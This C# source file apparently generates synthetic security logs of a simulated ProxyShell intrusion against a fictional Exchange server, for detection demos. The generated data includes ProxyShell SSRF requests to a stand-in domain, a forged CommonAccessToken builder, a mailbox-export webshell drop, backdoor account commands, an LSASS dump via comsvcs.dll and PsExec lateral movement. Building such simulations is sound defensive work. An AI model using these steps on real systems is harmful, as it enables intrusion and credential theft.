using System.Globalization;
using System.Text;

namespace Ooda.Demo.Internal;

/// <summary>
/// The one intrusion: ProxyShell against an exposed Exchange 2019 CU9, a mailbox export that drops a PST-shaped
/// .aspx webshell, hands-on-keyboard through it, an LSASS dump and PsExec to the domain controller. Every source
/// tells the same story with the same times. A mass scanner's failed probes against a patched server are added as noise.
/// </summary>
internal sealed class ProxyShellIntrusion
{
    public const string SsrfDomain = "evil.example";
    private const string ExploitAgent = "python-requests/2.25.1";
    private const string WebshellAgent = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/91.0.4472.124 Safari/537.36";
    private const string ScannerAgent = "Mozilla/5.0 zgrab/0.x";

    private readonly DemoRandom _random;

    public ProxyShellIntrusion(FleetCatalog fleet, ulong seed)
    {
        _random = DemoRandom.For(seed, "intrusion");
        Victim = fleet.Host("acme-ex01");
        LateralTarget = fleet.Host("acme-dc01");
        ScannedServer = fleet.Host("birch-ex01");
        AttackerIp = string.Create(CultureInfo.InvariantCulture, $"203.0.113.{_random.Next(20, 250)}");
        ScannerIp = string.Create(CultureInfo.InvariantCulture, $"198.51.100.{_random.Next(200, 250)}");
        WebshellName = _random.NextLetters(8) + ".aspx";
        FirstExploit = DemoOptions.Start.AddDays(1).AddHours(1).AddSeconds(_random.Next(0, 4 * 3600)).AddMilliseconds(_random.Next(0, 1000));
        ScanTime = DemoOptions.Start.AddHours(14).AddSeconds(_random.Next(0, 3600));
        CreatedAccount = "exch_svc_bkp";
    }

    public HostProfile Victim { get; }

    public HostProfile LateralTarget { get; }

    public HostProfile ScannedServer { get; }

    public string AttackerIp { get; }

    public string ScannerIp { get; }

    public string WebshellName { get; }

    public string WebshellPath => @"C:\inetpub\wwwroot\aspnet_client\" + WebshellName;

    public string WebshellUrl => "/aspnet_client/" + WebshellName;

    public DateTime FirstExploit { get; }

    public DateTime ScanTime { get; }

    public DateTime MailboxExport => FirstExploit.AddSeconds(125);

    public DateTime WebshellWritten => FirstExploit.AddSeconds(155);

    public DateTime FirstWebshellCommand => FirstExploit.AddMinutes(7);

    public DateTime CredentialDump => FirstExploit.AddMinutes(16);

    public DateTime LateralMovement => FirstExploit.AddMinutes(38);

    public string CreatedAccount { get; }

    private string AdministratorUpn => "administrator@" + Victim.Tenant.Domain;

    public DemoIntrusion Describe() => new(
        Victim.Tenant.Name, Victim.Host.Name, AttackerIp, WebshellPath, WebshellUrl, FirstExploit, MailboxExport, FirstWebshellCommand,
        CredentialDump, LateralMovement, LateralTarget.Host.Name, CreatedAccount, ScannerIp);

    /// <summary>Exploit and webshell requests on the victim, scanner probes on the scanned server.</summary>
    public void AddWebRequests(HostProfile server, TimedQueue<WebRequest> queue)
    {
        if (server == ScannedServer)
        {
            var t = ScanTime;
            foreach (var path in new[] { "/owa/?", "/mapi/nspi/?" })
            {
                queue.Add(t, Ssrf(t, "GET", path, "foo.com", ScannerIp, ScannerAgent, 401));
                t = t.AddMilliseconds(_random.Next(300, 900));
            }

            return;
        }

        if (server != Victim)
            return;

        var at = FirstExploit;
        queue.Add(at, Ssrf(at, "GET", "/mapi/nspi/?", SsrfDomain, AttackerIp, ExploitAgent, 200));
        at = FirstExploit.AddSeconds(35);
        queue.Add(at, Ssrf(at, "POST", "/autodiscover/autodiscover.xml?", SsrfDomain, AttackerIp, ExploitAgent, 200));
        at = at.AddMilliseconds(1830);
        queue.Add(at, Ssrf(at, "POST", "/mapi/emsmdb?", SsrfDomain, AttackerIp, ExploitAgent, 200));
        var token = Uri.EscapeDataString(CommonAccessToken());
        at = FirstExploit.AddSeconds(58);
        for (var i = 0; i < 16; i++)
        {
            queue.Add(at, Ssrf(at, "POST", "/powershell/?X-Rps-CAT=" + token, SsrfDomain, AttackerIp, ExploitAgent, 200));
            at = at.AddMilliseconds(_random.Next(900, 4200));
            if (i == 7)
            {
                var ews = FirstExploit.AddSeconds(100);
                queue.Add(ews, Ssrf(ews, "POST", "/EWS/exchange.asmx?", SsrfDomain, AttackerIp, ExploitAgent, 200));
                at = FirstExploit.AddSeconds(118);
            }
        }

        foreach (var (time, _) in WebshellCommands())
        {
            var post = time.AddMilliseconds(-_random.Next(150, 700));
            queue.Add(post, new WebRequest
            {
                Time = post,
                Method = "POST",
                Stem = WebshellUrl,
                ClientIp = AttackerIp,
                UserAgent = WebshellAgent,
                Status = 200,
                TimeTaken = _random.Next(90, 1400),
                RequestId = _random.NextGuid(),
            });
        }
    }

    /// <summary>Windows events on the victim and on the lateral-movement target.</summary>
    public void AddWindowsEvents(WindowsEvents w)
    {
        if (w.Host == Victim)
            OnVictim(w);
        else if (w.Host == LateralTarget)
            OnLateralTarget(w);
    }

    private IEnumerable<(DateTime Time, string Command)> WebshellCommands()
    {
        var admin = Victim.Users[0];
        yield return (FirstWebshellCommand, "whoami");
        yield return (FirstExploit.AddMinutes(8).AddSeconds(31), "net user " + CreatedAccount + " Demo-Only-Pa55! /add");
        yield return (FirstExploit.AddMinutes(9).AddSeconds(4), "net localgroup administrators " + CreatedAccount + " /add");
        yield return (FirstExploit.AddMinutes(11).AddSeconds(17), "powershell.exe -nop -w hidden -enc " + EncodedCommand);
        yield return (FirstExploit.AddMinutes(14).AddSeconds(2), "upload");
        yield return (CredentialDump, @"rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump {lsass} C:\Windows\Temp\lsass.dmp full");
        yield return (LateralMovement, @"C:\Windows\Temp\ps.exe \\" + LateralTarget.Host.Ip + @" -accepteula -u " + Victim.Tenant.NetbiosDomain + @"\" + admin.Sam
            + @" -p ******** -s cmd.exe /c ""whoami /all & net group """"Domain Admins"""" /domain""");
    }

    private static string EncodedCommand => Convert.ToBase64String(Encoding.Unicode.GetBytes(DecodedCommand));

    private const string DecodedCommand = "Get-Process lsass | Select-Object -ExpandProperty Id";

    private void OnVictim(WindowsEvents w)
    {
        var domainAdministratorSid = Victim.DomainSid + "-500";
        var callerPath = Victim.Tenant.Domain + "/Users/Administrator";
        var rpsProcess = (8000 + _random.Next(0, 500) * 4).ToString(CultureInfo.InvariantCulture) + " w3wp#MSExchangePowerShellAppPool";
        w.ExchangeCmdlet(FirstExploit.AddSeconds(70), "New-ManagementRoleAssignment",
            @"-Name ""MIE-" + _random.NextLetters(6) + @""" -Role ""Mailbox Import Export"" -User """ + AdministratorUpn + @"""",
            callerPath, domainAdministratorSid, "Remote-ManagementShell-Unknown", rpsProcess, TimeSpan.FromMilliseconds(1342));
        var subject = _random.NextLetters(8);
        w.ExchangeCmdlet(MailboxExport, "New-MailboxExportRequest",
            @"-ContentFilter ""(Subject -eq '" + subject + @"')"" -IncludeFolders ""#Drafts#"" -Mailbox """ + AdministratorUpn + @""" -FilePath ""\\127.0.0.1\c$\inetpub\wwwroot\aspnet_client\" + WebshellName + @"""",
            callerPath, domainAdministratorSid, "Remote-ManagementShell-Unknown", rpsProcess, TimeSpan.FromMilliseconds(2208));
        w.FileCreate(WebshellWritten, w.MailboxReplication!, WebshellPath);
        w.ExchangeCmdlet(FirstExploit.AddSeconds(190), "Remove-MailboxExportRequest",
            @"-Identity """ + Victim.Tenant.Domain + @"/Users/Administrator\MailboxExport"" -Confirm ""False""",
            callerPath, domainAdministratorSid, "Remote-ManagementShell-Unknown", rpsProcess, TimeSpan.FromMilliseconds(611));

        var pool = w.DefaultAppPool!;
        var system = w.SystemProcessAccount;
        const string Cmd = @"C:\Windows\System32\cmd.exe";
        const string Shell = @"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe";
        const string WebRoot = @"c:\inetpub\wwwroot\aspnet_client\";
        foreach (var (t, command) in WebshellCommands())
        {
            if (command == "upload")
            {
                w.FileCreate(t, pool, @"C:\Windows\Temp\ps.exe");
                continue;
            }

            var line = command.Replace("{lsass}", w.Lsass.Pid.ToString(CultureInfo.InvariantCulture), StringComparison.Ordinal);
            var cmd = w.Process(t, pool, Cmd, @"""cmd.exe"" /c cd /d """ + WebRoot + @"""&" + line + "&echo [S]&cd&echo [E]", system, "System", WebRoot);
            var child = t.AddMilliseconds(_random.Next(30, 120));
            if (line == "whoami")
            {
                w.Process(child, cmd, @"C:\Windows\System32\whoami.exe", "whoami", system, "System", WebRoot);
            }
            else if (line.StartsWith("net ", StringComparison.Ordinal))
            {
                var net = w.Process(child, cmd, @"C:\Windows\System32\net.exe", line, system, "System", WebRoot);
                w.Process(child.AddMilliseconds(12), net, @"C:\Windows\System32\net1.exe", "C:\\Windows\\system32\\net1 " + line[4..], system, "System", WebRoot);
                if (line.Contains("user", StringComparison.Ordinal))
                    AccountCreated(w, child.AddMilliseconds(90));
                else
                    AddedToAdministrators(w, child.AddMilliseconds(80));
            }
            else if (line.StartsWith("powershell", StringComparison.Ordinal))
            {
                var ps = w.Process(child, cmd, Shell, line, system, "System", WebRoot);
                w.ScriptBlock(child.AddMilliseconds(700), system, DecodedCommand);
                _ = ps;
            }
            else if (line.StartsWith("rundll32", StringComparison.Ordinal))
            {
                var rundll = w.Process(child, cmd, @"C:\Windows\System32\rundll32.exe", line, system, "System", WebRoot);
                w.FileCreate(child.AddMilliseconds(1900), rundll, @"C:\Windows\Temp\lsass.dmp");
            }
            else
            {
                var ps = w.Process(child, cmd, @"C:\Windows\Temp\ps.exe", line, system, "System", WebRoot);
                w.Network(child.AddMilliseconds(250), ps, Victim.Host.Ip, _random.Next(49152, 65535), LateralTarget.Host.Ip, 445, LateralTarget.Host.Fqdn);
            }
        }
    }

    private void AccountCreated(WindowsEvents w, DateTime t)
    {
        var sid = Victim.MachineSid + "-1008";
        w.Add(t, w.Security(t, 4720, 0, 13824, new EventData()
            .Add("TargetUserName", CreatedAccount)
            .Add("TargetDomainName", Victim.Netbios)
            .Add("TargetSid", sid)
            .Add("SubjectUserSid", w.System.Sid)
            .Add("SubjectUserName", w.System.Name)
            .Add("SubjectDomainName", w.System.Domain)
            .Add("SubjectLogonId", w.System.LogonId)
            .Add("PrivilegeList", "-")
            .Add("SamAccountName", CreatedAccount)
            .Add("DisplayName", "%%1793")
            .Add("UserPrincipalName", "-")
            .Add("HomeDirectory", "%%1793")
            .Add("HomePath", "%%1793")
            .Add("ScriptPath", "%%1793")
            .Add("ProfilePath", "%%1793")
            .Add("UserWorkstations", "%%1793")
            .Add("PasswordLastSet", "%%1794")
            .Add("AccountExpires", "%%1794")
            .Add("PrimaryGroupId", "513")
            .Add("AllowedToDelegateTo", "-")
            .Add("OldUacValue", "0x0")
            .Add("NewUacValue", "0x15")
            .Add("UserAccountControl", "\r\n\t\t%%2080\r\n\t\t%%2082\r\n\t\t%%2084")
            .Add("UserParameters", "%%1793")
            .Add("SidHistory", "-")
            .Add("LogonHours", "%%1797")));
    }

    private void AddedToAdministrators(WindowsEvents w, DateTime t) =>
        w.Add(t, w.Security(t, 4732, 0, 13826, new EventData()
            .Add("MemberName", "-")
            .Add("MemberSid", Victim.MachineSid + "-1008")
            .Add("TargetUserName", "Administrators")
            .Add("TargetDomainName", "Builtin")
            .Add("TargetSid", "S-1-5-32-544")
            .Add("SubjectUserSid", w.System.Sid)
            .Add("SubjectUserName", w.System.Name)
            .Add("SubjectDomainName", w.System.Domain)
            .Add("SubjectLogonId", w.System.LogonId)
            .Add("PrivilegeList", "-")));

    private void OnLateralTarget(WindowsEvents w)
    {
        var admin = Victim.Users[0];
        var t = LateralMovement.AddMilliseconds(640);
        var account = new Account(admin.Sid, admin.Sam, Victim.Tenant.NetbiosDomain, "", "");
        var session = w.Logon(t, account, 3, Victim.Host.Ip, Victim.Netbios, "NTLM", true);
        var system = w.SystemProcessAccount;
        var kernel = new ProcessInfo(4, "00000000-0000-0000-0000-000000000000", "System", "", system, "System");
        w.FileCreate(t.AddMilliseconds(300), kernel, @"C:\Windows\PSEXESVC.exe");
        w.ServiceInstalled(t.AddMilliseconds(520), "PSEXESVC", @"%SystemRoot%\PSEXESVC.exe", "demand start", "LocalSystem", admin.Sid);
        w.ServiceState(t.AddMilliseconds(700), "PSEXESVC", "running");
        var service = w.Process(t.AddMilliseconds(690), w.Services, @"C:\Windows\PSEXESVC.exe", @"C:\Windows\PSEXESVC.exe", system);
        var cmdLine = @"cmd.exe /c ""whoami /all & net group ""Domain Admins"" /domain""";
        var cmd = w.Process(t.AddMilliseconds(1100), service, @"C:\Windows\System32\cmd.exe", cmdLine, system);
        w.Process(t.AddMilliseconds(1180), cmd, @"C:\Windows\System32\whoami.exe", "whoami  /all", system);
        w.Process(t.AddMilliseconds(1420), cmd, @"C:\Windows\System32\net.exe", @"net  group ""Domain Admins"" /domain", system);
        w.ServiceState(t.AddSeconds(4), "PSEXESVC", "stopped");
        w.Logoff(t.AddSeconds(5), session, 3);
    }

    private WebRequest Ssrf(DateTime t, string method, string backendPath, string domain, string ip, string agent, int status) => new()
    {
        Time = t,
        Method = method,
        Stem = "/autodiscover/autodiscover.json",
        Query = "@" + domain + backendPath + "&Email=autodiscover/autodiscover.json%3F@" + domain,
        ClientIp = ip,
        UserAgent = agent,
        Status = status,
        SubStatus = 0,
        TimeTaken = status == 200 ? _random.Next(40, 900) : _random.Next(1, 12),
        Protocol = "Autodiscover",
        BackEndStatus = status == 200 ? 200 : 0,
        ErrorCode = status == 200 ? null : "LogonFailed",
        RequestId = _random.NextGuid(),
        RequestBytes = method == "POST" ? _random.Next(600, 9000) : 0,
        ResponseBytes = status == 200 ? _random.Next(300, 5000) : 58,
        GenericInfo = status == 200 ? null : "",
    };

    /// <summary>The X-Rps-CAT CommonAccessToken the exploit forges: version, Windows type, Kerberos, the
    /// impersonated UPN and SID, group SIDs. Fictional identities; the layout follows the public write-ups.</summary>
    private string CommonAccessToken()
    {
        using var buffer = new MemoryStream();
        void Tag(char tag) => buffer.WriteByte((byte)tag);
        void Text(string value)
        {
            var bytes = Encoding.ASCII.GetBytes(value);
            buffer.WriteByte((byte)bytes.Length);
            buffer.Write(bytes);
        }

        Tag('V');
        buffer.WriteByte(1);
        buffer.WriteByte(0);
        Tag('T');
        Text("Windows");
        Tag('C');
        buffer.WriteByte(0);
        Tag('A');
        Text("Kerberos");
        Tag('L');
        Text(AdministratorUpn);
        Tag('U');
        Text(Victim.DomainSid + "-500");
        string[] groups = ["S-1-5-32-544", "S-1-5-32-545", "S-1-1-0", "S-1-5-11", "S-1-5-15", Victim.DomainSid + "-512", Victim.DomainSid + "-513", Victim.DomainSid + "-519"];
        Tag('G');
        buffer.Write(BitConverter.GetBytes(groups.Length));
        foreach (var group in groups)
        {
            buffer.Write(BitConverter.GetBytes(7));
            Text(group);
        }

        Tag('E');
        buffer.Write(BitConverter.GetBytes(0));
        return Convert.ToBase64String(buffer.ToArray());
    }
}
